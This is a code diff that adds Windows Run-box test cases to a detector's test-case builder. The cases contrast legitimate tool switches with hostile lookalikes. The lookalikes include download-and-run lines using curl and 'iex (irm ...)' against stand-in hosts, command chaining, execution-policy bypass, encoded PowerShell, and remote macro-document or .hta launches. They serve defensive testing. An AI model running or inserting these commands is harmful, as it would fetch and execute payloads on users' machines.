@@ -281,12 +281,124 @@ def own_image(book: Book) -> None:
     )
 
 
+# -- the Run box ---------------------------------------------------------------------------------
+
+RUN = "run_dialog"
+BAR = "explorer_bar"
+HELP_PAGE = "https://support.harrowfield.example/kb/restart-and-tools"
+MAIL = "outlook"
+
+# Windows' own tools (and Office's, Firefox's) with the documented switches of
+# resources/runbox.yaml that restart, open a tab or a log, or start in one of their own modes
+OWN_SWITCHES = [
+    "shutdown /r /t 0", "shutdown /s /t 60", "shutdown.exe /a", "shutdown /r /o /t 0",
+    "shutdown.exe /h", "shutdown /g /t 30", "shutdown /s /hybrid /t 0", "shutdown /l",
+    "eventvwr /c:Application", "eventvwr /c:System", "eventvwr.exe /c:Security",
+    '"eventvwr" /c:Microsoft-Windows-PowerShell/Operational',
+    r"eventvwr /l:C:\Temp\saved.evtx", r'eventvwr /l:"%USERPROFILE%\Desktop\app log.evtx"',
+    "mstsc /admin", "mstsc /f", "mstsc /public /multimon", "mstsc /w:1280 /h:800",
+    "sndvol -f", "sndvol -m", "SndVol.exe -m",
+    "taskmgr /7 /startup", "taskmgr /0 /startup", "Taskmgr.exe /3",
+    "winword /n /safe", "winword /q /n", "winword.exe /a /safe", "excel /e /safe", "excel /x",
+    "firefox -P", "firefox.exe -safe-mode", "firefox -private-window",
+    r"C:\Program Files\Mozilla Firefox\firefox.exe -P",
+    r'"C:\Program Files\Mozilla Firefox\firefox.exe" -ProfileManager',
+    r"%ProgramFiles%\Mozilla Firefox\firefox.exe -safe-mode",
+    r"C:\Program Files (x86)\Microsoft Office\root\Office16\WINWORD.EXE /safe /n",
+]  # fmt: skip
+# typed (no source), still commands: a switch not in the catalogue, a value that is a share or
+# an address, a copy of the program anywhere but Program Files, a word too many
+OWN_SWITCH_LOOKALIKES = [
+    r"shutdown /r /m \\fs02 /t 0", "shutdown /r /t 0 /c hello", "shutdown /f /r /t 0",
+    "shutdown /r /t 0 /r", "shutdown /t now", "shutdown /r calc",
+    r"eventvwr /c:\\files.quillmere.example\share", r"eventvwr /l:\\files.quillmere.example\x.evtx",
+    "eventvwr /l:https://cdn.quillmere.example/x.evtx", "eventvwr /c:%LOGONSERVER%",
+    r"mstsc /edit C:\Users\Public\Downloads\support.rdp", r"mstsc C:\Temp\x.rdp /admin",
+    "mstsc /admin /admin", "sndvol -f -f", "sndvol -x", "taskmgr /7 /7", "taskmgr /startup calc",
+    r"winword /safe C:\Users\Public\Downloads\invoice.docm", "winword /mFileNew",
+    r"winword /n \\files.quillmere.example\a.docm", r"excel /r \\203.0.113.5\x\book.xlsm",
+    "excel /e https://cdn.quillmere.example/book.xlsm",
+    "firefox -new-window https://verify.quillmere.example/", "firefox -P -P",
+    r"C:\Users\Public\firefox.exe -P", r"%TEMP%\firefox.exe -safe-mode",
+    r"%APPDATA%\Mozilla Firefox\firefox.exe -P",
+    r"C:\Program Files\..\Users\Public\firefox.exe -P",
+    r"\\files.quillmere.example\Program Files\firefox.exe -P",
+    r"C:\Program Files\Mozilla Firefox\firefox.exe -P https://cdn.quillmere.example/a.hta",
+    r"C:\Program Files\Mozilla Firefox\mshta.exe -P",
+]  # fmt: skip
+
+# a console kept open on a command that only shows this computer's state
+QUERIES = [
+    "cmd /k ipconfig /all", "cmd /k ipconfig /displaydns", "cmd.exe /k systeminfo",
+    "cmd /K whoami /groups", "cmd /k netstat -ano", "cmd /k route print", "cmd /k arp -a",
+    "cmd /k tasklist /svc", "cmd /k getmac /v", "cmd /k driverquery /v", "cmd /k hostname",
+    "powershell -NoExit -Command Get-NetAdapter", "powershell -NoExit Get-Volume",
+    "powershell.exe -NoExit -NoProfile -Command Get-Process", "pwsh -NoExit -c Get-NetIPConfiguration",
+    "powershell -NoExit -Command ipconfig /all", "powershell -noexit get-service",
+    "powershell -NoLogo -NoExit -Command Get-PhysicalDisk",
+]  # fmt: skip
+QUERY_LOOKALIKES = [
+    "cmd /k ipconfig /all & calc", "cmd /k ipconfig /all && curl -o a.exe https://dl.quillmere.example/a",
+    "cmd /c ipconfig /all | clip", "cmd /k ipconfig /release", "cmd /k ipconfig /all /all",
+    "cmd /k nslookup -q=txt stage.quillmere.example", "cmd /k ping -n 1 203.0.113.9",
+    "cmd /k start https://verify.quillmere.example/", "cmd /k curl https://dl.quillmere.example/a",
+    r"cmd /k \\files.quillmere.example\share\run.bat", "cmd /k systeminfo extra",
+    "cmd ipconfig /all", "cmd /k", r"cmd /k whoami /all > %TEMP%\w.txt",
+    r"powershell -NoExit -Command Get-Content \\files.quillmere.example\x.txt",
+    "powershell -NoExit -Command Invoke-WebRequest https://dl.quillmere.example/a",
+    "powershell -w h -c Get-Process", "powershell -ep bypass -NoExit -c Get-Process",
+    "powershell -NoExit -EncodedCommand RwBlAHQALQBQAHIAbwBjAGUAcwBzAA==",
+    "powershell -NoExit -Command Get-Process; iex (irm https://dl.quillmere.example/a)",
+    "powershell -NoExit -File C:\\Users\\Public\\a.ps1", "pwsh -c Get-Process -ComputerName fs02",
+    "powershell -NoExit -NoExit -Command Get-Volume", "powershell -NoExit -Command Start-Process calc",
+    "powershell -NoExit -Command Get-", "powershell -NoExit -Command Get-Item env:",
+]  # fmt: skip
+
+# Windows Terminal started in a folder here, a code editor opening a folder or file here
+OPEN_HERE = [
+    r"wt -d C:\src", r"wt -d %USERPROFILE%\projects", r'wt -d "C:\Users\sam\My Projects"',
+    r"wt -p Ubuntu -d C:\work", r"wt.exe --startingDirectory D:\repos", r"wt -w 0 -d C:\src\api",
+    r"code C:\src\website", r"code %USERPROFILE%\notes", r'code "D:\Work Files\site"',
+    r"code C:\Users\sam\.gitconfig", r"code-insiders C:\src\app", r"code.exe D:\repos\tool",
+]  # fmt: skip
+OPEN_LOOKALIKES = [
+    r"wt -d \\files.quillmere.example\share", r"wt -d C:\src cmd /c calc",
+    r"wt -d %LOGONSERVER%\netlogon", r"wt -d C:\src -d D:\x", "wt -d https://dl.quillmere.example/",
+    r"wt -d C:\src powershell -c iwr https://dl.quillmere.example/a", "wt -d",
+    r"code \\files.quillmere.example\share\proj", "code https://verify.quillmere.example/",
+    "code --install-extension quillmere.helper", r"code C:\src C:\other",
+    r"code --folder-uri vscode-remote://ssh-remote+203.0.113.7/home", r"code %HOMESHARE%\proj",
+    r"code \\203.0.113.7@SSL\DavWWWRoot\x",
+]  # fmt: skip
+
+
+def run_box(book: Book) -> None:
+    groups = [
+        ("run-box-own-switches", OWN_SWITCHES, OWN_SWITCH_LOOKALIKES),
+        ("run-box-query", QUERIES, QUERY_LOOKALIKES),
+        ("run-box-open-here", OPEN_HERE, OPEN_LOOKALIKES),
+    ]
+    for tech, typed, lookalikes in groups:
+        for i, text in enumerate(typed):
+            book.add(tech, text, "not_flagged", "windows", BAR if i % 6 == 5 else RUN)
+        for text in lookalikes:
+            book.add(tech, text, "flagged", "windows", RUN)
+        # the same entries written by a page: a command in the Run box, blocked
+        for i, text in enumerate(typed[::2]):
+            page = (HELP_PAGE, STRANGER)[i % 2]
+            book.add(tech, text, "malicious", "windows", RUN if i % 3 else BAR, page)
+        # ...or by a mail or a chat: a command there, at least a warning
+        for text in typed[1::5]:
+            book.add(tech, text, "flagged", "windows", RUN, MAIL)
+
+
 def build() -> list[dict[str, str]]:
     book = Book("b8b")
     flathub_ref(book)
     repo_named_host(book)
     repo_words_host(book)
     own_image(book)
+    run_box(book)
     return book.cases
 
 
